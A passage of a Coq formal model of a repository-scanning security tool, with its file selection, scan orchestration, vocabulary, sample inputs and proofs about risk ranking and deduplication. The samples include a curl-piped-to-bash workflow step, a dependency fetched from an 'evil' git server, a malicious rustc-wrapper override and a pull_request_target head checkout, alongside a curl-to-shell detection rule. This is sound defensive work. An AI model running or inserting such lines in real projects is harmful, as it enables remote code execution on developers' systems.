      if hasFile fileTree VSCODE_TASKS || hasFolder fileTree (lit ".vscode")
      then filesToScan ++ [VSCODE_TASKS]
      else filesToScan
    else filesToScan in
  let filesToScan :=
    if hasFile fileTree NPM_PACKAGE then filesToScan ++ [NPM_PACKAGE] else filesToScan in
  let filesToScan :=
    if hasFile fileTree PYTHON_SETUP then filesToScan ++ [PYTHON_SETUP] else filesToScan in
  let filesToScan :=
    if hasFile fileTree PYTHON_PYPROJECT then filesToScan ++ [PYTHON_PYPROJECT]
    else filesToScan in
  let filesToScan :=
    if hasFile fileTree RUST_CARGO then filesToScan ++ [RUST_CARGO] else filesToScan in
  let filesToScan :=
    if hasFolder fileTree (lit ".cargo")
    then (filesToScan ++ [RUST_CARGO_CONFIG]) ++ [RUST_CARGO_CONFIG_ALT]
    else filesToScan in
  if hasFolder fileTree (lit ".github/workflows") then
    let workflowFiles :=
      filter (fun file =>
                startsWith file (lit ".github/workflows/")
                && (endsWith file (lit ".yml") || endsWith file (lit ".yaml")))
             fileTree in
    filesToScan ++ workflowFiles
  else filesToScan.


Definition needsScanning (fileTree : list jsstring) : bool :=
  let hasTriggerFolder := existsb (fun folder => hasFolder fileTree folder) SCAN_TRIGGER_FOLDERS in
  let hasCriticalFile :=
    hasFile fileTree NPM_PACKAGE
    || hasFile fileTree PYTHON_SETUP
    || hasFile fileTree PYTHON_PYPROJECT
    || hasFile fileTree RUST_CARGO in
  hasTriggerFolder || hasCriticalFile.

End FilePathMatcher.

(* ================================================================== *)
(** ** Orchestrator ([heuristics/index]) *)

Module Engine.
Import JS Types RiskClassifier FilePathMatcher.

(** A computation that may not return a value: a loop on fuel inside, or an
    exception thrown by a scanner that is not embedded. *)
Definition bind {A B : Type} (m : option A) (k : A -> option B) : option B :=
  match m with
  | Some a => k a
  | None => None
  end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).

(** [Partial<HeuristicsConfig>]: an absent field is [None]. *)
Record PartialConfig := mkPartialConfig {
  enableEntropyScan : option bool;
  enableHomoglyphScan : option bool;
  enableSecondaryScriptScan : option bool
}.

(** A field of [{ ...DEFAULT_CONFIG, ...config }]; every default is [true]. *)
Definition merged (field : option bool) : bool :=
  match field with
  | Some b => b
  | None => true
  end.

(** The four ecosystem scanners (tasks, package manifest, Python build
    script, Cargo files) are parameters: the orchestrator only appends what
    they return. A result [None] stands for an exception thrown by the
    scanner, which [scanFile] does not catch. *)
Record PatternScanners := mkPatternScanners {
  scanVSCodeTasks : jsstring -> jsstring -> option (list Finding);
  scanNPMPackage : jsstring -> jsstring -> option (list Finding);
  scanPython : jsstring -> jsstring -> option (list Finding);
  scanRust : jsstring -> jsstring -> option (list Finding)
}.

Section WithScanners.
Variable scanners : PatternScanners.

(** [file.exists && file.content]: the file was read and is not empty. *)
Definition wasRead (file : FileContent) : bool :=
  exists_ file && negb (length (content file) =? 0).

(** The [switch (scannerType)] of [scanFile]: "Run pattern-specific
    scanner". *)
Definition scanWithPattern (file : FileContent) : option (list Finding) :=
  match getScannerType (path file) with
  | Some vscode => scanVSCodeTasks scanners (content file) (path file)
  | Some npm => scanNPMPackage scanners (content file) (path file)
  | Some python => scanPython scanners (content file) (path file)
  | Some rust => scanRust scanners (content file) (path file)
  | Some github => Some (GitHub.scanGitHubActions (content file) (path file))
  | None => Some []
  end.

Definition scanFile (file : FileContent) (config : PartialConfig)
    : option (list Finding) :=
  if negb (exists_ file) || (length (content file) =? 0) then Some []
  else
    findings <- scanWithPattern file ;;
    let findings :=
      if merged (enableHomoglyphScan config) && Homoglyph.needsHomoglyphScan (content file)
      then findings ++ Homoglyph.scanForHomoglyphs (content file) (path file)
      else findings in
    findings <-
      (if merged (enableEntropyScan config)
       then entropyFindings <- Entropy.scanForHighEntropyDefault (content file) (path file) ;;
            Some (findings ++ entropyFindings)
       else Some findings) ;;
    Some (if merged (enableSecondaryScriptScan config)
             && RecursiveGuard.needsDeepInspection (content file)
          then findings ++ RecursiveGuard.scanForSecondaryScripts (content file) (path file)
          else findings).

(** The loop of [scanFiles]. *)
Fixpoint scanAll (files : list FileContent) (config : PartialConfig)
    : option (list (list Finding)) :=
  match files with
  | [] => Some []
  | file :: rest =>
      result <- scanFile file config ;;
      others <- scanAll rest config ;;
      Some (result :: others)
  end.

Definition scanFiles (files : list FileContent) (config : PartialConfig)
    : option (list Finding) :=
  allFindings <- scanAll files config ;;
  Some (aggregateFindings allFindings).

(** What the loop of [scanRepository] leaves in [scannedFiles],
    [skippedFiles] and [allFindings]. *)
Record Visited := mkVisited {
  visitedScanned : list jsstring;
  visitedSkipped : list jsstring;
  visitedFindings : list (list Finding)
}.

Fixpoint visitFiles (files : list FileContent) (config : PartialConfig) : option Visited :=
  match files with
  | [] => Some (mkVisited [] [] [])
  | file :: rest =>
      if exists_ file && negb (length (content file) =? 0) then
        result <- scanFile file config ;;
        v <- visitFiles rest config ;;
        Some (mkVisited (path file :: visitedScanned v) (visitedSkipped v)
                        (result :: visitedFindings v))
      else
        v <- visitFiles rest config ;;
        Some (mkVisited (visitedScanned v) (path file :: visitedSkipped v)
                        (visitedFindings v))
  end.

Definition unableToFetchFinding (repository : RepositoryInfo)
    (skippedFiles : list jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := url repository;
     description := lit "Unable to fetch files for scanning. This may be due to GitHub rate limiting, or the files don't exist at the expected paths.";
     lineNumber := None;
     matchedContent := Some (natToString (length skippedFiles) ++ lit " file(s): "
                             ++ join (lit ", ") (take 3 skippedFiles));
     category := FETCH_ERROR |}.

Definition partialScanFinding (repository : RepositoryInfo)
    (skippedFiles : list jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := url repository;
     description := natToString (length skippedFiles)
                    ++ lit " file(s) could not be fetched - partial scan only";
     lineNumber := None;
     matchedContent := Some (join (lit ", ") (take 3 skippedFiles));
     category := FETCH_ERROR |}.

Definition scanRepository (files : list FileContent) (repository : RepositoryInfo)
    (config : PartialConfig) (now : nat) : option ScanResult :=
  v <- visitFiles files config ;;
  let scannedFiles := visitedScanned v in
  let skippedFiles := visitedSkipped v in
  let findings := aggregateFindings (visitedFindings v) in
  let findings :=
    if (length scannedFiles =? 0) && (0 <? length skippedFiles) then
      findings ++ [unableToFetchFinding repository skippedFiles]
    else if (0 <? length skippedFiles) && (0 <? length scannedFiles) then
      findings ++ [partialScanFinding repository skippedFiles]
    else findings in
  Some (createScanResult findings scannedFiles skippedFiles repository now).

End WithScanners.

End Engine.

(* ================================================================== *)
(** ** Vocabulary of the statements *)

Module Vocabulary.
Import JS Types.

(** The order of severities: RED above YELLOW above GREEN. *)
Definition severityRank (r : RiskLevel) : nat :=
  match r with
  | RED => 2
  | YELLOW => 1
  | GREEN => 0
  end.

(** [m] is the maximum severity present in [fs], or GREEN when [fs] is
    empty. *)
Definition IsMaxSeverity (m : RiskLevel) (fs : list Finding) : Prop :=
  (fs = [] -> m = GREEN)
  /\ (fs <> [] -> exists f, In f fs /\ riskLevel f = m)
  /\ (forall f, In f fs -> severityRank (riskLevel f) <= severityRank m).

(** Two findings agree on the tuple (severity, file path, description). *)
Definition sameTuple (f g : Finding) : Prop :=
  riskLevel f = riskLevel g /\ filePath f = filePath g /\ description f = description g.

(** A file that could not be read, or that is empty. *)
Definition unreadable (file : FileContent) : Prop :=
  exists_ file = false \/ content file = [].

(** The second loop of [calculateEntropy], over the counts. *)
Definition entropySum (len : nat) (counts : list nat) (start : R) : R :=
  fold_left (fun entropy count =>
               let probability := (INR count / INR len)%R in
               (entropy - probability * Entropy.log2 probability)%R)
            counts start.

(** The trimmed [line] contains [text]. *)
Definition mentions (text line : jsstring) : bool := includes (trim line) text.

(** The test on [checkoutRef] at the end of [GitHubActionsScanner.scan]. *)
Definition refersToPullRequestHead (ref : jsstring) : bool :=
  includes ref (lit "pull_request") || includes ref (lit "head.ref")
  || includes ref (lit "head.sha").

(** A line of a checkout step that is neither its [ref:] line nor the start
    of another step or action. *)
Definition plainStepLine (line : jsstring) : bool :=
  negb (startsWith (trim line) (lit "ref:"))
  && negb (startsWith (trim line) (lit "-"))
  && negb (startsWith (trim line) (lit "uses:")).

(** The workflow has a checkout step whose [ref:] parameter refers to the
    head of the pull request: a line mentioning [actions/checkout], and after
    it, before any line that starts a new list item, a line [ref: ...] that
    mentions the pull request head. *)
Definition hasCheckoutOfHead (lines : list jsstring) : Prop :=
  exists before checkout between ref after,
    lines = before ++ checkout :: between ++ ref :: after
    /\ mentions (lit "actions/checkout") checkout = true
    /\ forallb (fun l => negb (startsWith (trim l) (lit "-"))) between = true
    /\ startsWith (trim ref) (lit "ref:") = true
    /\ refersToPullRequestHead (trim ref) = true.

(** [b] is [a] with findings of line number [n] added and the flags kept. *)
Definition addsLineFindings (n : nat) (a b : GitHub.ScanState) : Prop :=
  GitHub.hasPullRequestTarget b = GitHub.hasPullRequestTarget a
  /\ GitHub.hasWorkflowRun b = GitHub.hasWorkflowRun a
  /\ GitHub.hasCheckout b = GitHub.hasCheckout a
  /\ GitHub.checkoutRef b = GitHub.checkoutRef a
  /\ exists added, GitHub.findings b = GitHub.findings a ++ added
                   /\ Forall (fun f => lineNumber f = Some n) added.

Definition isRED (f : Finding) : bool := RiskLevel_eqb (riskLevel f) RED.
Definition isYELLOW (f : Finding) : bool := RiskLevel_eqb (riskLevel f) YELLOW.

(** What the entropy analyzer keeps of more than five findings: the first
    three RED ones and the first two YELLOW ones. *)
Definition keptRegions (raw : list Finding) : list Finding :=
  firstn 3 (filter isRED raw) ++ firstn 2 (filter isYELLOW raw).

(** The callback of [lines.forEach] in [GitHubActionsScanner.scan], applied to
    a line with its index. *)
Definition lineStep (lines : list jsstring) (path : jsstring)
    (st : GitHub.ScanState) (il : nat * jsstring) : GitHub.ScanState :=
  GitHub.scanLine lines path st (fst il) (snd il).

(** How often the character [k] occurs among the characters [cps]. *)
Definition occurrences (cps : list jsstring) (k : jsstring) : nat :=
  count_occ (list_eq_dec N.eq_dec) cps k.

(** The frequency map [m] holds, for the characters [cps] read so far, each
    character once, with the number of its occurrences. *)
Definition CountsOf (cps : list jsstring) (m : Entropy.FrequencyMap) : Prop :=
  NoDup (map fst m)
  /\ forall k v, In (k, v) m <-> (v = occurrences cps k /\ 0 < v).

(** One step of the first loop of [calculateEntropy]. *)
Definition countChar (frequencies : Entropy.FrequencyMap) (char : jsstring)
    : Entropy.FrequencyMap :=
  Entropy.mapSet frequencies char (Entropy.orZero (Entropy.mapGet frequencies char) + 1).

(** No ecosystem scanner throws on a file of the batch that was read. *)
Definition scannersReturn (scanners : Engine.PatternScanners)
    (files : list FileContent) : Prop :=
  forall file, In file files -> Engine.wasRead file = true ->
               Engine.scanWithPattern scanners file <> None.

(** The paths [scanRepository] reports as scanned and as skipped. *)
Definition readPaths (files : list FileContent) : list jsstring :=
  map path (filter Engine.wasRead files).

Definition unreadPaths (files : list FileContent) : list jsstring :=
  map path (filter (fun f => negb (Engine.wasRead f)) files).

(** The finding [scanRepository] adds about files it could not fetch. *)
Definition fetchNote (repository : RepositoryInfo) (files : list FileContent)
    : list Finding :=
  if (length (readPaths files) =? 0) && (0 <? length (unreadPaths files)) then
    [Engine.unableToFetchFinding repository (unreadPaths files)]
  else if (0 <? length (unreadPaths files)) && (0 <? length (readPaths files)) then
    [Engine.partialScanFinding repository (unreadPaths files)]
  else [].


(** The paths [getFilesToScan] can ask for besides the workflow files. *)
Definition fixedPaths : list jsstring :=
  [FilePathMatcher.VSCODE_TASKS; FilePathMatcher.NPM_PACKAGE;
   FilePathMatcher.PYTHON_SETUP; FilePathMatcher.PYTHON_PYPROJECT;
   FilePathMatcher.RUST_CARGO; FilePathMatcher.RUST_CARGO_CONFIG;
   FilePathMatcher.RUST_CARGO_CONFIG_ALT].

Definition FindingCategory_eqb (a b : FindingCategory) : bool :=
  str_eqb (Summary.FindingCategory_toString a) (Summary.FindingCategory_toString b).

(** How many findings have the category [c]. *)
Definition categoryCount (c : FindingCategory) (findings : list Finding) : nat :=
  length (filter (fun f => FindingCategory_eqb (category f) c) findings).

(** The finding of [scanForHomoglyphs] for [n] lookalike characters outside
    a mixed-script text, whatever its sample of contexts. *)
Definition isPotentialHomoglyphFinding (path : jsstring) (n : nat) (f : Finding) : Prop :=
  riskLevel f = YELLOW
  /\ filePath f = path
  /\ description f = natToString n ++ lit " potential homoglyph character(s) detected"
  /\ lineNumber f = None
  /\ category f = HOMOGLYPH.

(** A line of [.cargo/config] that replaces the compiler. *)
Definition overridesCompiler (line : jsstring) : bool :=
  includes (trim line) (lit "rustc-wrapper") || includes (trim line) (lit "rustc =").

(** A path of a [.cargo/config] file, which is not a [Cargo.toml]. *)
Definition isCargoConfigPath (p : jsstring) : bool :=
  negb (endsWith p (lit "Cargo.toml")) && includes p (lit ".cargo/config").

(** What every finding of the [Cargo.toml] scan looks like. *)
Definition tomlFinding (path : jsstring) (f : Finding) : Prop :=
  riskLevel f = YELLOW /\ category f = RUST /\ filePath f = path.

(** A line of a section that is neither empty, nor a section header, nor a
    comment. *)
Definition isEntryLine (line : jsstring) : bool :=
  negb (length (trim line) =? 0)
  && negb (startsWith (trim line) (lit "["))
  && negb (startsWith (trim line) (lit "#")).

Definition buildDependenciesText : jsstring :=
  lit "Build dependencies detected - build.rs will run during compilation".

(** Line [n] (counted from 1) is an entry line that comes right after the
    header [[build-dependencies]]. *)
Definition followsBuildDependencies (lines : list jsstring) (n : nat) : Prop :=
  exists header line,
    2 <= n
    /\ nth_error lines (n - 2) = Some header
    /\ nth_error lines (n - 1) = Some line
    /\ trim header = lit "[build-dependencies]"
    /\ isEntryLine line = true.

(** Some finding of [fs] has the description [text] and the line number [n]. *)
Definition reportedAt (fs : list Finding) (text : jsstring) (n : nat) : Prop :=
  exists f, In f fs /\ description f = text /\ lineNumber f = Some n.

(** The state [b] of the [Cargo.toml] scan is [a] with the findings [added]
    and the same section flag. *)
Definition extends (added : list Finding) (a b : Rust.TomlState) : Prop :=
  Rust.inBuildDependencies b = Rust.inBuildDependencies a
  /\ Rust.findings b = Rust.findings a ++ added.

Definition otherText (f : Finding) : Prop := description f <> buildDependenciesText.

(** What holds of the state of the [Cargo.toml] scan after the first [k]
    lines. *)
Definition afterLines (lines : list jsstring) (k : nat) (st : Rust.TomlState) : Prop :=
  (forall previous, 0 < k -> nth_error lines (k - 1) = Some previous ->
                    trim previous = lit "[build-dependencies]" ->
                    Rust.inBuildDependencies st = true)
  /\ forall n, reportedAt (Rust.findings st) buildDependenciesText n
               <-> n <= k /\ followsBuildDependencies lines n.

(** A greedy repetition of a pattern that matches one unit, those that
    satisfy [P], followed by [k]: the longest run first, then shorter ones. *)
Fixpoint starRun (P : N -> bool) (k : option N -> jsstring -> option jsstring)
    (prev : option N) (s : jsstring) : option jsstring :=
  match s with
  | x :: s' =>
      if P x then
        match starRun P k (Some x) s' with
        | Some res => Some res
        | None => k prev s
        end
      else k prev s
  | [] => k prev s
  end.

(** What a pattern that matches one unit does. *)
Definition matchesUnits (ic : bool) (a : Regex.Regex) (P : N -> bool) : Prop :=
  forall prev s k,
    Regex.matchAt ic a prev s k
    = match s with
      | x :: s' => if P x then k (Some x) s' else None
      | [] => None
      end.

(** A line in which [curl] is piped to a shell, as the scanner looks for it. *)
Definition pipesCurlToShell (line : jsstring) : bool :=
  includes (trim line) (lit "curl")
  && (includes (trim line) (lit "| bash") || includes (trim line) (lit "| sh")).

Definition curlPipeFinding (path : jsstring) (lineNum : nat) (line : jsstring) : Finding :=
  GitHub.lineFinding RED path lineNum
    (lit "curl piped to shell - potential code execution from remote source")
    (substring0 (trim line) 100).

(** What a test of a scanner looks at: severity, description and line
    number of each finding. *)
Definition outline (fs : list Finding) : list (RiskLevel * jsstring * option nat) :=
  map (fun f => (riskLevel f, description f, lineNumber f)) fs.

End Vocabulary.

(* ================================================================== *)
(** ** Concrete inputs used in examples *)

Module Samples.
Import JS Types.

(** A finding of severity GREEN. *)
Definition greenFinding : Finding :=
  {| riskLevel := GREEN;
     filePath := lit "package.json";
     description := lit "no lifecycle scripts";
     lineNumber := None;
     matchedContent := None;
     category := NPM |}.

(** Two findings with different file paths and descriptions whose keys are
    the same string [YELLOW:ci.yml:run: curl]. *)
Definition colonInDescription : Finding :=
  {| riskLevel := YELLOW;
     filePath := lit "ci.yml";
     description := lit "run: curl";
     lineNumber := None;
     matchedContent := None;
     category := GITHUB_ACTIONS |}.

Definition colonInPath : Finding :=
  {| riskLevel := YELLOW;
     filePath := lit "ci.yml:run";
     description := lit " curl";
     lineNumber := None;
     matchedContent := None;
     category := GITHUB_ACTIONS |}.

Definition someRepository : RepositoryInfo :=
  {| owner := lit "octo";
     repo := lit "demo";
     branch := None;
     url := lit "https://github.com/octo/demo" |}.

(** A requested file that was not found. *)
Definition missingManifest : FileContent :=
  {| path := lit "package.json"; content := []; exists_ := false |}.

(** A requested file that was read. *)
Definition readManifest : FileContent :=
  {| path := lit "Cargo.toml"; content := lit "[package]"; exists_ := true |}.

(** Ecosystem scanners that report nothing. *)
Definition silentScanners : Engine.PatternScanners :=
  {| Engine.scanVSCodeTasks := fun _ _ => Some [];
     Engine.scanNPMPackage := fun _ _ => Some [];
     Engine.scanPython := fun _ _ => Some [];
     Engine.scanRust := fun _ _ => Some [] |}.

Definition defaultConfig : Engine.PartialConfig :=
  {| Engine.enableEntropyScan := None;
     Engine.enableHomoglyphScan := None;
     Engine.enableSecondaryScriptScan := None |}.

(** The character U+1F600, a surrogate pair, twice. *)
Definition grinningFace : jsstring := [55357; 56832]%N.
Definition grinningTwice : jsstring := grinningFace ++ grinningFace.

(** One hundred distinct characters: the code units 33 to 132. *)
Definition hundredDistinct : jsstring := map N.of_nat (seq 33 100).

(** Fifty distinct letters, [A] to [Z] and [a] to [x]. *)
Definition fiftyLetters : jsstring := map N.of_nat (seq 65 26 ++ seq 97 24).

(** 1150 characters: six times [hundredDistinct], then eleven times
    [fiftyLetters]. *)
Definition sixRegions : jsstring :=
  concat (repeat hundredDistinct 6) ++ concat (repeat fiftyLetters 11).

(** An ASCII text with the digit zero in it. *)
Definition versionText : jsstring := lit "v1.0".

Definition somePath : jsstring := lit "setup.py".

Definition workflowPath : jsstring := lit ".github/workflows/ci.yml".

(** The workflow of the repository's own test of the pwn-request pattern,
    line by line. *)
Definition pwnBefore : list jsstring :=
  [ lit "";
    lit "name: CI";
    lit "on:";
    lit "  pull_request_target:";
    lit "    types: [opened]";
    lit "jobs:";
    lit "  build:";
    lit "    runs-on: ubuntu-latest";
    lit "    steps:" ].
Definition pwnCheckout : jsstring := lit "      - uses: actions/checkout@v4".
Definition pwnBetween : list jsstring := [ lit "        with:" ].
Definition pwnRef : jsstring :=
  lit "          ref: ${{ github.event.pull_request.head.sha }}".
Definition pwnAfter : list jsstring := [ lit "      - run: npm install"; lit "" ].

Definition pwnWorkflow : jsstring :=
  join (lit (String (ascii_of_nat 10) EmptyString))
       (pwnBefore ++ pwnCheckout :: pwnBetween ++ pwnRef :: pwnAfter).

(** A workflow whose checkout step sets eight other inputs before [ref:]. *)
Definition farBefore : list jsstring :=
  [ lit "on: pull_request_target";
    lit "jobs:";
    lit "  build:";
    lit "    runs-on: ubuntu-latest";
    lit "    steps:" ].
Definition farCheckout : jsstring := lit "      - uses: actions/checkout@v4".
Definition farBetween : list jsstring :=
  [ lit "        with:";
    lit "          repository: octo/demo";
    lit "          token: ${{ github.token }}";
    lit "          path: src";
    lit "          clean: true";
    lit "          fetch-depth: 0";
    lit "          lfs: true";
    lit "          submodules: true";
    lit "          persist-credentials: false" ].
Definition farRef : jsstring :=
  lit "          ref: ${{ github.event.pull_request.head.sha }}".
Definition farAfter : list jsstring := [ lit "      - run: make"; lit "" ].

Definition farRefWorkflow : jsstring :=
  join (lit (String (ascii_of_nat 10) EmptyString))
       (farBefore ++ farCheckout :: farBetween ++ farRef :: farAfter).

(** The windows of [sixRegions] that the entropy loop reports, and what it
    reports for them: three critical regions, then three high ones. *)
Definition hundredLetters : jsstring := fiftyLetters ++ fiftyLetters.

Definition criticalRegion : Finding :=
  Entropy.criticalWindowFinding (Entropy.calculateEntropy hundredDistinct)
    somePath hundredDistinct.

Definition base64Region : Finding :=
  Entropy.base64WindowFinding (Entropy.calculateEntropy hundredLetters)
    somePath hundredLetters.

Definition sixRaw : list Finding :=
  [criticalRegion; criticalRegion; criticalRegion; base64Region; base64Region; base64Region].

(** Texts of [Cargo.toml] and [.cargo/config.toml], those of the
    repository's tests of the Cargo scanner. *)
Definition nl : jsstring := [10%N].

(** A text between double quotes. *)
Definition quoted (s : jsstring) : jsstring := [34%N] ++ s ++ [34%N].

Definition linesText (lines : list jsstring) : jsstring := join nl lines.

Definition buildDepsToml : jsstring :=
  linesText [ lit ""; lit "[package]"; lit "name = " ++ quoted (lit "test");
              lit "version = " ++ quoted (lit "0.1.0"); lit "";
              lit "[build-dependencies]"; lit "cc = " ++ quoted (lit "1.0"); lit "" ].

Definition customBuildToml : jsstring :=
  linesText [ lit ""; lit "[package]"; lit "name = " ++ quoted (lit "test");
              lit "version = " ++ quoted (lit "0.1.0");
              lit "build = " ++ quoted (lit "custom-build.rs"); lit "" ].

Definition defaultBuildToml : jsstring :=
  linesText [ lit ""; lit "[package]"; lit "name = " ++ quoted (lit "test");
              lit "version = " ++ quoted (lit "0.1.0");
              lit "build = " ++ quoted (lit "build.rs"); lit "" ].

Definition wrapperLine : jsstring :=
  lit "rustc-wrapper = " ++ quoted (lit "/path/to/malicious/wrapper").

Definition wrapperConfig : jsstring :=
  linesText [ lit ""; lit "[build]"; wrapperLine; lit "" ].

Definition rustcConfig : jsstring :=
  linesText [ lit ""; lit "[build]"; lit "rustc = " ++ quoted (lit "/path/to/fake/rustc");
              lit "" ].

Definition linkerConfig : jsstring :=
  linesText [ lit ""; lit "[target.x86_64-unknown-linux-gnu]";
              lit "linker = " ++ quoted (lit "/custom/linker"); lit "" ].

Definition runnerConfig : jsstring :=
  linesText [ lit ""; lit "[target.x86_64-unknown-linux-gnu]";
              lit "runner = [" ++ quoted (lit "sudo") ++ lit ", " ++ quoted (lit "./run.sh")
                ++ lit "]";
              lit "" ].

Definition evilGitToml : jsstring :=
  linesText [ lit ""; lit "[dependencies]";
              lit "malware = { git = " ++ quoted (lit "https://evil-git-server.com/payload")
                ++ lit " }";
              lit "" ].

Definition githubGitToml : jsstring :=
  linesText [ lit ""; lit "[dependencies]";
              lit "safe = { git = " ++ quoted (lit "https://github.com/safe/crate")
                ++ lit " }";
              lit "" ].

Definition traversalToml : jsstring :=
  linesText [ lit ""; lit "[dependencies]";
              lit "local = { path = " ++ quoted (lit "../../../system/malware") ++ lit " }";
              lit "" ].

Definition procMacroToml : jsstring :=
  linesText [ lit ""; lit "[lib]"; lit "proc-macro = true"; lit "" ].

Definition sourceConfig : jsstring :=
  linesText [ lit ""; lit "[source.custom-registry]";
              lit "registry = " ++ quoted (lit "https://my-private-registry.com/index");
              lit "" ].

Definition safeToml : jsstring :=
  linesText [ lit ""; lit "[package]"; lit "name = " ++ quoted (lit "safe-crate");
              lit "version = " ++ quoted (lit "0.1.0"); lit "edition = " ++ quoted (lit "2021");
              lit ""; lit "[dependencies]"; lit "serde = " ++ quoted (lit "1.0");
              lit "tokio = { version = " ++ quoted (lit "1.0") ++ lit ", features = ["
                ++ quoted (lit "full") ++ lit "] }";
              lit "" ].

(** A file no pattern scanner applies to, with a zero-width space in it. *)
Definition hiddenSpaceFile : FileContent :=
  {| path := lit "notes.txt";
     content := lit "hello" ++ [8203%N] ++ lit "world";
     exists_ := true |}.

(** The configuration that turns the entropy analyzer off. *)
Definition noEntropyConfig : Engine.PartialConfig :=
  {| Engine.enableEntropyScan := Some false;
     Engine.enableHomoglyphScan := None;
     Engine.enableSecondaryScriptScan := None |}.

(** A workflow with one step that pipes [curl] to [bash]. *)
Definition curlStep : jsstring :=
  lit "      - run: curl -s https://example.com/install.sh | bash".

Definition curlWorkflow : jsstring :=
  linesText [ lit "name: CI"; lit "on: push"; lit "jobs:"; lit "  install:";
              lit "    runs-on: ubuntu-latest"; lit "    steps:"; curlStep; lit "" ].

End Samples.

(* ================================================================== *)
(** * Properties *)

Import JS Types.

(** ** Strings *)

Lemma str_eqb_eq : forall a b, str_eqb a b = true <-> a = b.
Proof.
  induction a as [|x a IH]; destruct b as [|y b]; simpl; split; intro H;
    try reflexivity; try discriminate.
  - apply andb_true_iff in H. destruct H as [Hxy Hab].
    apply N.eqb_eq in Hxy. apply IH in Hab. congruence.
  - inversion H; subst. rewrite N.eqb_refl. simpl. apply IH. reflexivity.
Qed.

Lemma str_eqb_refl : forall a, str_eqb a a = true.
Proof. intro a. apply str_eqb_eq. reflexivity. Qed.

Lemma arrayIncludes_In : forall a x, arrayIncludes a x = true <-> In x a.
Proof.
  intros a x. unfold arrayIncludes. rewrite existsb_exists. split.
  - intros [y [Hy Heq]]. apply str_eqb_eq in Heq. subst. exact Hy.
  - intro H. exists x. split; [exact H | apply str_eqb_refl].
Qed.

Lemma arrayIncludes_not_In : forall a x, arrayIncludes a x = false <-> ~ In x a.
Proof.
  intros a x. rewrite <- arrayIncludes_In. destruct (arrayIncludes a x); split;
    intro H; try reflexivity; try discriminate; try congruence;
    try (exfalso; apply H; reflexivity).
Qed.

(** ** Risk classifier *)

Module RiskClassifierFacts.
Import RiskClassifier.

Lemma RiskLevel_eqb_eq : forall a b, RiskLevel_eqb a b = true <-> a = b.
Proof. intros [] []; simpl; split; intro H; try reflexivity; discriminate. Qed.

Lemma some_level_iff : forall (l : RiskLevel) (fs : list Finding),
  existsb (fun f => RiskLevel_eqb (riskLevel f) l) fs = true
  <-> exists f, In f fs /\ riskLevel f = l.
Proof.
  intros l fs. rewrite existsb_exists. split; intros [f [Hin H]]; exists f; split;
    try exact Hin; apply RiskLevel_eqb_eq; exact H.
Qed.

Lemma no_level_iff : forall (l : RiskLevel) (fs : list Finding),
  existsb (fun f => RiskLevel_eqb (riskLevel f) l) fs = false
  <-> forall f, In f fs -> riskLevel f <> l.
Proof.
  intros l fs. split.
  - intros H f Hin Hl.
    assert (Ht : existsb (fun f => RiskLevel_eqb (riskLevel f) l) fs = true)
      by (apply some_level_iff; exists f; split; assumption).
    congruence.
  - intro H. destruct (existsb _ fs) eqn:E; [|reflexivity].
    apply some_level_iff in E. destruct E as [f [Hin Hl]]. exfalso. exact (H f Hin Hl).
Qed.

(** The three outcomes of [determineOverallRisk], each characterised. *)
Lemma determineOverallRisk_cases : forall fs,
  (determineOverallRisk fs = RED /\ exists f, In f fs /\ riskLevel f = RED)
  \/ (determineOverallRisk fs = YELLOW
      /\ (forall f, In f fs -> riskLevel f <> RED)
      /\ exists f, In f fs /\ riskLevel f = YELLOW)
  \/ (determineOverallRisk fs = GREEN /\ forall f, In f fs -> riskLevel f = GREEN).
Proof.
  intro fs. unfold determineOverallRisk.
  destruct fs as [|f0 fs'].
  - right; right. simpl. split; [reflexivity | intros f []].
  - cbn [length Nat.eqb].
    destruct (existsb (fun f => RiskLevel_eqb (riskLevel f) RED) (f0 :: fs')) eqn:ER.
    + left. split; [reflexivity | apply some_level_iff; exact ER].
    + destruct (existsb (fun f => RiskLevel_eqb (riskLevel f) YELLOW) (f0 :: fs')) eqn:EY.
      * right; left. split; [reflexivity|]. split.
        -- apply no_level_iff. exact ER.
        -- apply some_level_iff. exact EY.
      * right; right. split; [reflexivity|].
        intros f Hin.
        pose proof (proj1 (no_level_iff RED _) ER f Hin) as H1.
        pose proof (proj1 (no_level_iff YELLOW _) EY f Hin) as H2.
        destruct (riskLevel f); congruence.
Qed.

(** Deduplication: the keys of the result are pairwise distinct and new. *)
Lemma dedupeLoop_keys : forall fs seen,
  NoDup (map findingKey (dedupeLoop fs seen))
  /\ forall f, In f (dedupeLoop fs seen) -> ~ In (findingKey f) seen.
Proof.
  induction fs as [|f fs IH]; intro seen; simpl.
  - split; [constructor | intros f []].
  - destruct (arrayIncludes seen (findingKey f)) eqn:E.
    + apply IH.
    + destruct (IH (findingKey f :: seen)) as [Hnd Hnew].
      apply arrayIncludes_not_In in E. split.
      * simpl. constructor; [|exact Hnd].
        intro Hin. apply in_map_iff in Hin. destruct Hin as [g [Hk Hg]].
        apply (Hnew g Hg). left. symmetry. exact Hk.
      * intros g [Hg | Hg].
        -- subst g. exact E.
        -- intro Hin. apply (Hnew g Hg). right. exact Hin.
Qed.

Lemma dedupeLoop_fixed : forall fs seen,
  NoDup (map findingKey fs) ->
  (forall f, In f fs -> ~ In (findingKey f) seen) ->
  dedupeLoop fs seen = fs.
Proof.
  induction fs as [|f fs IH]; intros seen Hnd Hnew; simpl; [reflexivity|].
  assert (E : arrayIncludes seen (findingKey f) = false).
  { apply arrayIncludes_not_In. apply Hnew. left. reflexivity. }
  rewrite E. f_equal. inversion Hnd as [|k ks Hk Hnd']; subst.
  apply IH; [exact Hnd'|].
  intros g Hg [Heq | Hin].
  - apply Hk. rewrite Heq. apply in_map. exact Hg.
  - apply (Hnew g); [right; exact Hg | exact Hin].
Qed.

Lemma dedupeLoop_subset : forall fs seen f, In f (dedupeLoop fs seen) -> In f fs.
Proof.
  induction fs as [|g fs IH]; intros seen f; simpl; [tauto|].
  destruct (arrayIncludes seen (findingKey g)).
  - intro H. right. exact (IH _ _ H).
  - intros [H | H]; [left; exact H | right; exact (IH _ _ H)].
Qed.

(** The stable sort keeps the findings. *)
Lemma insertBySeverity_perm : forall f l, Permutation (f :: l) (insertBySeverity f l).
Proof.
  induction l as [|g l IH]; simpl; [apply Permutation_refl|].
  destruct (severityOrder (riskLevel f) <=? severityOrder (riskLevel g)).
  - apply Permutation_refl.
  - eapply perm_trans; [apply perm_swap|]. apply perm_skip. exact IH.
Qed.

